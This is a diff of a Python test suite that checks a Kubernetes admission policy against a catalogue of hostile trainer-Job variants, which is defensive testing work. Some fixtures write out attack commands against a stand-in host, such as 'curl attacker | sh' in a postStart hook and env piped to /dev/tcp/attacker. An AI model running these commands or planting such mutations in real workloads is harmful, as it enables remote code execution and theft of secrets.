@@ -1,13 +1,17 @@
 """The trainer ValidatingAdmissionPolicy offline: what the monitor's ServiceAccount may create.
 
-These tests take the exact expressions out of the rendered chart (matchConditions, variables,
-validations) and evaluate them with a real CEL implementation (cel-python) against the exact Job the
-launcher creates: the trainer-job ConfigMap's template passed through
-`services.monitor.launchers.kubernetes.stamp_job`. Variables are computed in order and handed to the
-validations as `variables`, as the API server does. They are fast and name the validation that
-refuses. The API server itself (its typed CEL, the defaulting and conversion before the policy, the
-binding's namespace match) answers the same catalogue in tests/cluster/test_admission.py, with the
-monitor's own token; the stamped Job being admitted is checked there only.
+The policy is an allowlist: the admitted Job equals the rendered trainer template except what the
+launcher stamps and what the API server defaults. These tests take the exact expressions out of the
+rendered chart (matchConditions, variables, validations) and evaluate them with a real CEL
+implementation (cel-python) against the exact Job the launcher creates: the trainer-job ConfigMap's
+template passed through `services.monitor.launchers.kubernetes.stamp_job`, as sent and with the
+server's defaults added. Variables are computed in order and handed to the validations as
+`variables`, as the API server does. Each hostile variant (the attack list of a review: lifecycle and
+probe exec, added env, another tag, resources, parallelism, suspend, scheduling, DNS, labels, pull
+secrets, ...) must be refused by exactly the validations named in HOSTILE. ~7 s. The API server
+itself (its typed CEL checker, which refuses mixed-type literals cel-python accepts, the defaulting
+before the policy, the binding's namespace match) answers the same catalogue in
+tests/cluster/test_admission.py, with the monitor's own token.
 """
 
 from __future__ import annotations
@@ -244,30 +248,191 @@ def secret_name(job: Job) -> str:
     return name
 
 
+def post_start_exec(job: Job) -> None:
+    container(job)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl attacker | sh"]}}}
+
+
+def liveness_probe_exec(job: Job) -> None:
+    container(job)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "env > /dev/tcp/attacker/80"]}}
+
+
+def extra_env(name: str, value: str) -> Callable[[Job], None]:
+    def mutate(job: Job) -> None:
+        container(job)["env"].append({"name": name, "value": value})
+
+    mutate.__name__ = f"env_{name.lower()}"
+    return mutate
+
+
+def mlflow_elsewhere(job: Job) -> None:
+    # Not added but changed: the registry the trainer writes to moves to the monitor's choice.
+    env = next(e for e in container(job)["env"] if e["name"] == "MLFLOW_TRACKING_URI")
+    env["value"] = "http://attacker.example:5000"
+
+
+def older_image_tag(job: Job) -> None:
+    repository = container(job)["image"].rsplit(":", 1)[0]
+    container(job)["image"] = f"{repository}:an-older-unreviewed-build"
+
+
+def image_by_other_digest(job: Job) -> None:
+    repository = container(job)["image"].rsplit(":", 1)[0]
+    container(job)["image"] = f"{repository}@sha256:{'0' * 64}"
+
+
+def no_resources(job: Job) -> None:
+    del container(job)["resources"]
+
+
+def huge_requests(job: Job) -> None:
+    container(job)["resources"] = {
+        "requests": {"cpu": "64", "memory": "512Gi"},
+        "limits": {"cpu": "64", "memory": "512Gi"},
+    }
+
+
+def parallelism_1000(job: Job) -> None:
+    job["spec"]["parallelism"] = 1000
+
+
+def completions_1000(job: Job) -> None:
+    job["spec"]["completions"] = 1000
+
+
+def suspended(job: Job) -> None:
+    job["spec"]["suspend"] = True
+    del job["spec"]["activeDeadlineSeconds"]
+
+
+def longer_deadline(job: Job) -> None:
+    job["spec"]["activeDeadlineSeconds"] = 10 * 86_400
+
+
+def no_deadline(job: Job) -> None:
+    del job["spec"]["activeDeadlineSeconds"]
+
+
+def longer_ttl(job: Job) -> None:
+    job["spec"]["ttlSecondsAfterFinished"] = 365 * 86_400
+
+
+def more_retries(job: Job) -> None:
+    job["spec"]["backoffLimit"] = 100
+
+
+def managed_elsewhere(job: Job) -> None:
+    # The built-in Job controller then leaves the Job to whatever controller claims this name.
+    job["spec"]["managedBy"] = "example.com/other-controller"
+
+
+def control_plane_tolerations(job: Job) -> None:
+    pod(job)["tolerations"] = [
+        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}
+    ]
+
+
+def node_selector(job: Job) -> None:
+    pod(job)["nodeSelector"] = {"node-role.kubernetes.io/control-plane": ""}
+
+
+def system_priority(job: Job) -> None:
+    pod(job)["priorityClassName"] = "system-node-critical"
+
+
+def dns_elsewhere(job: Job) -> None:
+    pod(job)["dnsPolicy"] = "None"
+    pod(job)["dnsConfig"] = {"nameservers": ["203.0.113.53"]}
+
+
+def host_aliases(job: Job) -> None:
+    pod(job)["hostAliases"] = [{"ip": "203.0.113.7", "hostnames": ["cali-housing-mlflow"]}]
+
+
+def writable_root(job: Job) -> None:
+    container(job)["securityContext"]["readOnlyRootFilesystem"] = False
+
+
+def extra_pod_label(job: Job) -> None:
+    job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component-extra"] = "inference"
+
+
+def pod_annotation(job: Job) -> None:
+    job["spec"]["template"]["metadata"]["annotations"] = {
+        "container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"
+    }
+
+
+def pull_secrets(job: Job) -> None:
+    pod(job)["imagePullSecrets"] = [{"name": secret_name(job)}]
+
+
+def extra_container(job: Job) -> None:
+    pod(job)["containers"].append({**copy.deepcopy(container(job)), "name": "sidecar"})
+
+
+def args_added(job: Job) -> None:
+    container(job)["args"] = ["--help"]
+
+
+def working_dir(job: Job) -> None:
+    container(job)["workingDir"] = "/var/lib/housing"
+
+
 HOSTILE: list[tuple[Callable[[Job], None], set[str]]] = [
     (other_image, {"image refused"}),
     (lookalike_image, {"image refused"}),
-    (other_command, {"container refused"}),
+    (older_image_tag, {"image refused"}),
+    (image_by_other_digest, {"image refused"}),
+    (other_command, {"command refused"}),
+    (args_added, {"command refused"}),
     (release_label_dropped, {"pod labels refused"}),
     (posing_as_inference, {"pod labels refused"}),
+    (extra_pod_label, {"pod labels refused"}),
+    (pod_annotation, {"pod annotations refused"}),
     (other_service_account, {"serviceAccountName refused"}),
     (no_service_account, {"serviceAccountName refused"}),
     (deprecated_service_account, {"serviceAccountName refused"}),
     (token_mounted, {"automountServiceAccountToken refused"}),
-    (privileged, {"privileged refused", "allowPrivilegeEscalation refused"}),
-    (privilege_escalation, {"allowPrivilegeEscalation refused"}),
-    (run_as_root_allowed, {"runAsNonRoot refused"}),
-    (no_run_as_non_root, {"runAsNonRoot refused"}),
-    (run_as_uid_0, {"runAsUser refused"}),
-    (host_path, {"hostPath volume refused", "volume refused"}),
-    (config_map_volume, {"volume refused"}),
-    (host_network, {"host namespaces refused"}),
-    (host_pid, {"host namespaces refused"}),
-    (sys_admin, {"capabilities refused"}),
-    (other_secret, {"secretKeyRef refused"}),
-    (other_secret_key, {"secretKeyRef key refused"}),
-    (env_from_secret, {"envFrom refused"}),
+    (privileged, {"container securityContext refused"}),
+    (privilege_escalation, {"container securityContext refused"}),
+    (run_as_root_allowed, {"container securityContext refused"}),
+    (writable_root, {"container securityContext refused"}),
+    (sys_admin, {"container securityContext refused"}),
+    (no_run_as_non_root, {"pod securityContext refused", "container securityContext refused"}),
+    (run_as_uid_0, {"pod securityContext refused"}),
+    (host_path, {"volumes refused", "volumeMounts refused"}),
+    (config_map_volume, {"volumes refused"}),
+    (host_network, {"pod fields refused"}),
+    (host_pid, {"pod fields refused"}),
+    (other_secret, {"env refused"}),
+    (other_secret_key, {"env refused"}),
+    (env_from_secret, {"env refused"}),
+    (extra_env("PYTHONWARNINGS", "ignore::antigravity.x"), {"env refused"}),
+    (extra_env("BROWSER", "sh -c 'curl attacker | sh' #%s"), {"env refused"}),
+    (extra_env("GATE_MIN_R2", "-1e9"), {"env refused"}),
+    (extra_env("MLFLOW_TRACKING_URI", "http://attacker.example:5000"), {"env refused"}),
+    (mlflow_elsewhere, {"env refused"}),
     (init_container, {"initContainers refused"}),
+    (extra_container, {"containers refused"}),
+    (post_start_exec, {"lifecycle and probes refused"}),
+    (liveness_probe_exec, {"lifecycle and probes refused"}),
+    (no_resources, {"resources refused"}),
+    (huge_requests, {"resources refused"}),
+    (parallelism_1000, {"parallelism refused"}),
+    (completions_1000, {"parallelism refused"}),
+    (suspended, {"suspend refused", "activeDeadlineSeconds refused"}),
+    (longer_deadline, {"activeDeadlineSeconds refused"}),
+    (no_deadline, {"activeDeadlineSeconds refused"}),
+    (longer_ttl, {"ttlSecondsAfterFinished refused"}),
+    (more_retries, {"backoffLimit refused"}),
+    (managed_elsewhere, {"job fields refused"}),
+    (control_plane_tolerations, {"scheduling refused"}),
+    (node_selector, {"scheduling refused"}),
+    (system_priority, {"scheduling refused"}),
+    (dns_elsewhere, {"DNS refused"}),
+    (host_aliases, {"DNS refused"}),
+    (pull_secrets, {"imagePullSecrets refused"}),
+    (working_dir, {"container fields refused"}),
 ]
 
 
@@ -290,17 +455,54 @@ def test_hostile_job_is_refused_by_the_validation_that_names_it(
     assert set(refused) == expected, refused
 
 
+def test_the_stamped_job_is_admitted_as_sent_and_as_the_server_defaults_it(
+    rendered: dict[str, Rendered],
+) -> None:
+    r = rendered["prod"]
+    policy = Policy.of(policy_doc(r))
+    job = stamped(r)
+    assert policy.refusals(job) == {}
+    # What the API server adds before any policy runs (measured with --dry-run=server on 1.37):
+    # the allowlist must admit those defaults too, and tests/cluster checks it on the real server.
+    defaulted = copy.deepcopy(job)
+    defaulted["spec"].update(
+        completionMode="NonIndexed",
+        completions=1,
+        parallelism=1,
+        manualSelector=False,
+        suspend=False,
+        podReplacementPolicy="TerminatingOrFailed",
+        selector={"matchLabels": {"batch.kubernetes.io/controller-uid": "uid"}},
+    )
+    defaulted["spec"]["template"]["metadata"]["labels"].update(
+        {
+            "batch.kubernetes.io/controller-uid": "uid",
+            "batch.kubernetes.io/job-name": "j",
+            "controller-uid": "uid",
+            "job-name": "j",
+        }
+    )
+    pod(defaulted).update(
+        dnsPolicy="ClusterFirst",
+        schedulerName="default-scheduler",
+        terminationGracePeriodSeconds=30,
+        serviceAccount=pod(job)["serviceAccountName"],
+    )
+    container(defaulted).update(
+        terminationMessagePath="/dev/termination-log", terminationMessagePolicy="File"
+    )
+    assert policy.refusals(defaulted) == {}
+
+
 def test_refusal_messages_say_what_is_allowed(rendered: dict[str, Rendered]) -> None:
     r = rendered["prod"]
     messages = {m.split(":", 1)[0]: m for _, m in Policy.of(policy_doc(r)).validations}
     job = stamped(r)
-    assert container(job)["image"].rsplit(":", 1)[0] in messages["image refused"]
+    assert container(job)["image"] in messages["image refused"]
     assert pod(job)["serviceAccountName"] in messages["serviceAccountName refused"]
-    assert secret_name(job) in messages["secretKeyRef refused"]
-    for key in ("DATABASE_URL", "MLFLOW_TRACKING_PASSWORD"):
-        assert key in messages["secretKeyRef key refused"]
-    assert "TELEGRAM_BOT_TOKEN" not in messages["secretKeyRef key refused"], "the trainer reads no bot token"
-    assert "housing-home, tmp" in messages["volume refused"]
+    assert "3600" in messages["activeDeadlineSeconds refused"]
+    assert '"memory":"1536Mi"' in messages["resources refused"]
+    assert "housing-home" in messages["volumes refused"]
     assert len(messages) == len(Policy.of(policy_doc(r)).validations), "one message per validation"
 
 
@@ -354,13 +556,6 @@ def test_policy_can_be_turned_off(tool: Callable[[str], str]) -> None:
     proc = helm_template(tool("helm"), [*REQUIRED_SETS, "--set", "trainer.admissionPolicy.enabled=false"])
     assert proc.returncode == 0, proc.stderr
     assert "ValidatingAdmissionPolicy" not in proc.stdout
-
-
-def test_a_trainer_env_from_another_secret_is_refused_at_render_time(tool: Callable[[str], str]) -> None:
-    extra = '[{"name":"X","valueFrom":{"secretKeyRef":{"name":"other-secret","key":"K"}}}]'
-    proc = helm_template(tool("helm"), [*REQUIRED_SETS, "--set-json", f"config.extraEnv={extra}"])
-    assert proc.returncode != 0
-    assert "other-secret" in proc.stderr and "trainer.admissionPolicy.enabled=false" in proc.stderr
 
 
 def test_policy_objects_match_the_kubernetes_schema(rendered: dict[str, Rendered]) -> None:
